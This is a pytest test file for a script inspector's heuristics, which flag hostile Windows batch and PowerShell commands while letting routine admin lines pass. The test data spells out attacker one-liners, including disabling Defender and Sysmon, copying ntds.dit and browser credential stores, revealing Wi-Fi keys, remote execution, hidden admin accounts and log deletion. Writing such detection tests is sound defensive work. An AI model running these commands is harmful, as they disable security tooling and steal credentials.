"""Heuristics over the Windows programs a script runs: one behaviour whatever the spelling, and
a dual-use command alone never enough to flag an admin script."""

from __future__ import annotations

import pytest

from inspector.analyzers.heuristics.windows_programs import HEURISTICS, Invocation, discovery_kind
from inspector.commands import Shell, extract_commands
from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import ids, score

CMD = ArtifactType.CMD
PS = ArtifactType.POWERSHELL
SUSPICIOUS = 300


def wincmd(name: str) -> str:
    return f"heur.wincmd.{name}"


@pytest.mark.parametrize(("script", "heuristic"), [
    ("sc config WinDefend start= disabled", wincmd("security_service_stopped")),
    ("net stop \"Sysmon64\"", wincmd("security_service_stopped")),
    ("fltmc unload SysmonDrv", wincmd("filter_driver_unloaded")),
    ("bcdedit /set {default} recoveryenabled No", wincmd("boot_config_weakened")),
    ("bcdedit.exe /set safeboot minimal", wincmd("boot_config_weakened")),
    ("fsutil usn deletejournal /d c:", wincmd("usn_journal_deleted")),
    ("sc sdset svcname D:(D;;DCLCWPDTSD;;;IU)", wincmd("service_acl_changed")),
    ("sdbinst.exe -q C:\\Users\\x\\shim.sdb", wincmd("shim_or_helper_installed")),
    ("netsh add helper C:\\Users\\Public\\helper.dll", wincmd("shim_or_helper_installed")),
    ("esentutl.exe /y \"%LOCALAPPDATA%\\Microsoft\\Edge\\User Data\\Default\\Login Data\" /d out.tmp",
     wincmd("credential_store_copied")),
    ("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\x\\n.dit",
     wincmd("credential_store_copied")),
    ("findstr /si pass *.xml *.ini *.txt", wincmd("password_search")),
    ("reg query HKLM /f password /t REG_SZ /s", wincmd("password_search")),
    ("netsh wlan show profile name=office key=clear", wincmd("wifi_keys")),
    ("winrs -r:srv02 whoami", wincmd("remote_execution")),
    ("schtasks /create /s srv02 /tn t /tr c:\\x.exe /sc once /st 00:00", wincmd("remote_execution")),
    ("sc \\\\srv02 create upd binpath= c:\\x.exe", wincmd("remote_execution")),
    ("wmic /node:10.1.2.3 process call create \"cmd /c whoami\"", wincmd("remote_execution")),
    ("wmic process get name /format:\"https://example.test/s.xsl\"", wincmd("signed_binary_proxy")),
    ("MpCmdRun.exe -DownloadFile -url https://example.test/a -path c:\\x\\a", wincmd("signed_binary_proxy")),
    ("forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c calc\"", wincmd("signed_binary_proxy")),
    ("forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c del @path & calc\"", wincmd("signed_binary_proxy")),
    ("msiexec /q /i http://example.test/p.msi", wincmd("signed_binary_proxy")),
    ("certreq -Post -config https://example.test/ c:\\x\\in.txt out.txt", wincmd("signed_binary_proxy")),
    ("rundll32.exe %APPDATA%\\x.dll,Start", wincmd("user_writable_dll_loaded")),
    ("cscript //nologo \\\\files01\\share\\run.vbs", wincmd("remote_script_host")),
    ("schtasks /create /tn upd /tr \"powershell -ep bypass -file c:\\x\\u.ps1\" /sc daily",
     wincmd("scheduled_task_payload")),
    ("schtasks /create /tn upd /tr %APPDATA%\\u.exe /sc onlogon", wincmd("scheduled_task_payload")),
    ("sc create upd binPath= \"cmd /c start c:\\x.exe\"", wincmd("service_payload")),
    ("sc failure upd reset= 0 actions= run/1000 command= c:\\x.exe", wincmd("service_payload")),
    ("wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=f", wincmd("wmi_subscription")),
    ("bitsadmin /SetNotifyCmdLine job1 c:\\x.exe NULL", wincmd("bits_notify_command")),
    ("copy x.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe\"",
     wincmd("startup_folder_write")),
    ("copy /y c:\\windows\\system32\\cmd.exe c:\\windows\\system32\\utilman.exe", wincmd("accessibility_binary_replaced")),
    ("net user backup$ Pa55! /add", wincmd("hidden_account")),
    ('echo y | C:\\tools\\plink.exe -batch -ssh -l root -pw Summer2024 esx01.example "vim-cmd vmsvc/getallvms"',
     wincmd("ssh_password_inline")),
    ("pscp.exe -pw hunter2 C:\\x\\a.zip admin@10.1.2.3:/tmp/", wincmd("ssh_password_inline")),
    ("net localgroup administrators helpdesk /add", wincmd("account_privileged")),
    ("copy %SystemRoot%\\System32\\certutil.exe %TEMP%\\c.tmp", wincmd("system_binary_copied")),
    ("copy c:\\windows\\system32\\cmd.exe c:\\users\\public\\svchost.exe", wincmd("system_binary_copied")),
    ("%APPDATA%\\svchost.exe /q", wincmd("system_name_outside_windows")),
    ("type payload.exe > c:\\x\\readme.txt:hidden.exe", wincmd("alternate_data_stream")),
    ("md c:\\x\\..::$index_allocation", wincmd("alternate_data_stream")),
    ("wmic process call create \"notepad.exe\"", wincmd("wmi_process_create")),
    ("del /f /q C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", wincmd("evidence_files_deleted")),
    ("vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", wincmd("shadow_storage_resized")),
    ("net group \"domain admins\" /domain", wincmd("domain_discovery")),
    ("nltest /domain_trusts", wincmd("domain_discovery")),
    ("setspn -T corp.example -Q */*", wincmd("spn_enumeration")),
    ("net use \\\\srv02\\C$ /user:corp\\admin secret", wincmd("admin_share")),
    ("hostname 1> \\\\srv02\\ADMIN$\\o.txt 2>&1", wincmd("admin_share")),
])
def test_each_behaviour_is_found_in_a_batch_line(script: str, heuristic: str) -> None:
    assert heuristic in ids(script, CMD)


def test_spelling_does_not_matter_carets_case_exe_and_cmd_nesting() -> None:
    for spelling in ("S^C.EXE CoNfIg windefend start= disabled", 'cmd /c "sc config windefend start= disabled"',
                     "set s=windefend\nsc config %s% start= disabled"):
        assert wincmd("security_service_stopped") in ids(spelling, CMD)


def test_native_programs_called_from_powershell_are_read_too() -> None:
    assert wincmd("hidden_account") in ids("& net.exe user 'svc$' 'P4ss!' /add", PS)


def test_start_is_looked_through_to_the_program_it_starts() -> None:
    (command,) = extract_commands('start "" /b wmic process call create calc', Shell.CMD)
    invocation = Invocation.of(command)
    assert invocation is not None and invocation.name == "wmic"


@pytest.mark.parametrize("script", [
    "netsh advfirewall firewall add rule name=web dir=in action=allow protocol=TCP localport=443",
    "net user builduser Passw0rd /add",
    "icacls C:\\inetpub\\site /grant \"IIS AppPool\\DefaultAppPool\":(OI)(CI)RX",
    "attrib +r readme.txt",
    "sc query w3svc\nsc start w3svc",
    "net stop w3svc\nnet start w3svc",
    "copy %windir%\\system32\\inetsrv\\config\\applicationHost.config backup\\",
    "%windir%\\Microsoft.NET\\Framework\\v4.0.30319\\regasm.exe /codebase Extension.dll",
    "msbuild build.proj /p:Configuration=Release",
    "schtasks /create /tn nightly /tr c:\\tools\\cleanup.exe /sc daily /st 02:00",
    "sc create AppHost binPath= \"C:\\Program Files\\App\\host.exe\" start= auto",
    "netsh trace start scenario=internetclient capture=yes tracefile=c:\\temp\\net.etl",
    "echo url=http://localhost:8080/ > site.txt",
    "whoami\nhostname",
    'forfiles /p "C:\\inetpub\\logs\\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path"',
])
def test_admin_and_build_lines_stay_under_the_suspicious_score(script: str) -> None:
    assert score(script, CMD) < SUSPICIOUS


def test_a_benign_copy_into_the_same_place_under_the_same_name_is_not_masquerading() -> None:
    assert wincmd("system_binary_copied") not in ids("copy c:\\windows\\system32\\xcopy.exe c:\\windows\\temp\\", CMD)


@pytest.mark.parametrize(("line", "kind"), [
    ("whoami /all", "whoami"), ("net user", "accounts"), ("net localgroup administrators", "accounts"),
    ("ipconfig /all", "ipconfig"), ("wmic qfe get hotfixid", "wmic"), ("query user", "sessions"),
    ("wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname", "security products"),
    ("net user x y /add", None), ("wmic process call create calc", None),
])
def test_discovery_kinds(line: str, kind: str | None) -> None:
    (command,) = extract_commands(line, Shell.CMD)
    invocation = Invocation.of(command)
    assert invocation is not None and discovery_kind(invocation) == kind


def test_discovery_is_weak_alone_and_a_burst_is_evidence() -> None:
    assert score("whoami /all\nnet user", CMD) < SUSPICIOUS
    three = "whoami /all\nsysteminfo\ntasklist /v"
    assert wincmd("discovery_burst") in ids(three, CMD) and wincmd("discovery_sweep") not in ids(three, CMD)
    sweep = three + "\nnetstat -ano\nnltest /dclist:corp\nnet group /domain"
    assert score(sweep, CMD) >= SUSPICIOUS


def test_every_heuristic_is_declared_under_this_family_prefix() -> None:
    assert all(h.id.startswith("heur.wincmd.") for h in HEURISTICS)
    assert len({h.id for h in HEURISTICS}) == len(HEURISTICS)


@pytest.mark.parametrize(("script", "heuristic"), [
    ("net use \\\\srv02\\ADMIN$ S3cret! /user:corp\\ops", wincmd("admin_share_credentials")),
    ("cmd.exe /Q /c ipconfig 1> \\\\10.0.0.5\\ADMIN$\\__out 2>&1", wincmd("output_to_admin_share")),
    ("takeown /f C:\\Windows\\System32\\sethc.exe", wincmd("system_file_ownership")),
    ("curl -k https://example.test/x.dll -o c:\\users\\public\\x.dll", wincmd("executable_downloaded_user_folder")),
])
def test_lateral_and_staging_lines(script: str, heuristic: str) -> None:
    assert heuristic in ids(script, CMD)


def test_a_share_mapped_without_credentials_or_output_is_weak() -> None:
    assert score("net use z: \\\\files01\\C$", CMD) < SUSPICIOUS
    assert wincmd("output_to_admin_share") not in ids("copy report.txt \\\\files01\\C$\\reports\\", CMD)
    assert wincmd("executable_downloaded_user_folder") not in ids("curl -o build\\tool.zip https://example.test/t.zip",
                                                                   CMD)


@pytest.mark.parametrize(("script", "heuristic"), [
    ("rar a -hpSecret out.rar c:\\data", wincmd("archive_with_password")),
    ("7z a -pS3cret out.7z c:\\data", wincmd("archive_with_password")),
    ("net user alice N3wPass!", wincmd("account_access_removed")),
    ("net user alice /delete", wincmd("account_access_removed")),
    ("net use \\\\srv02\\C$ /delete", wincmd("share_connections_removed")),
    ("vaultcmd /listcreds:\"Windows Credentials\" /all", wincmd("credential_vault_listed")),
    ("net user svc1 P4ss! /add /domain", wincmd("domain_account_created")),
    ("sdelete64 -accepteula -p 3 c:\\data\\x.docx", wincmd("secure_delete_tool")),
    ("at 13:20 /interactive cmd /c c:\\x.bat", wincmd("scheduled_task_payload")),
    ("\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -RemoveDefinitions -All", wincmd("security_service_stopped")),
    ("sysmon64 -u force", wincmd("security_service_stopped")),
    ("wmic product where \"name like '%Antivirus%'\" call uninstall /nointeractive", wincmd("security_service_stopped")),
    ("wuauclt.exe /UpdateDeploymentProvider c:\\x\\p.dll /RunHandlerComServer", wincmd("signed_binary_proxy")),
    ("conhost.exe --headless cmd /c calc", wincmd("signed_binary_proxy")),
    ("esentutl.exe /y /vss c:\\windows\\ntds\\ntds.dit /d c:\\x\\n.dit", wincmd("credential_store_copied")),
    ("type c:\\windows\\panther\\unattend.xml", wincmd("password_search")),
])
def test_more_behaviours(script: str, heuristic: str) -> None:
    assert heuristic in ids(script, CMD)


def test_listing_users_or_the_help_of_net_user_is_not_an_account_change() -> None:
    for line in ("net user", "net user alice", "net user alice /domain", "net user /?"):
        assert wincmd("account_access_removed") not in ids(line, CMD)


def test_deleting_accounts_in_a_script_that_creates_accounts_is_clean_up() -> None:
    assert wincmd("account_access_removed") not in ids("net user tmp1 P4ss! /add\nnet user tmp1 /delete", CMD)
    assert wincmd("account_access_removed") in ids("net user alice /delete", CMD)


CMD = ArtifactType.CMD


@pytest.mark.parametrize(
    ("script", "registry_finding"),
    [
        (r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d "userinit.exe,'
         r'C:\Users\Public\u.exe" /f', "heur.registry.winlogon_helper"),
        (r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
         "heur.registry.security_feature_off"),
    ],
)
def test_a_reg_add_the_registry_family_judges_is_counted_once(script: str, registry_finding: str) -> None:
    found = ids(script, CMD)
    assert registry_finding in found
    assert not any(f.startswith("heur.wincmd.registry_") for f in found)
    assert score(script, CMD) >= 300


def test_a_reg_add_only_the_command_family_judges_keeps_its_finding() -> None:
    script = r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v Upd /d "C:\Users\Public\u.exe" /f'
    found = ids(script, CMD)
    assert "heur.wincmd.registry_autostart" in found
    assert not any(f.startswith("heur.registry.") for f in found)


def test_the_rules_asked_about_a_program_are_every_rule_that_could_match_it_in_order() -> None:
    from inspector.analyzers.heuristics.windows_programs import RULES, rules_for

    for name in ("net", "sc", "bcdedit", "powershell", "no-such-program"):
        assert rules_for(name) == tuple(r for r in RULES if r.programs is None or name in r.programs)
    assert rules_for("no-such-program") == tuple(r for r in RULES if r.programs is None)


def test_a_remote_shell_with_a_key_or_a_prompt_has_no_inline_password() -> None:
    for script in ("plink.exe -batch -i C:\\keys\\deploy.ppk deploy@build01 uptime",
                   "pscp -P 22 -i deploy.ppk build.zip deploy@build01:/srv/"):
        assert wincmd("ssh_password_inline") not in ids(script, CMD)
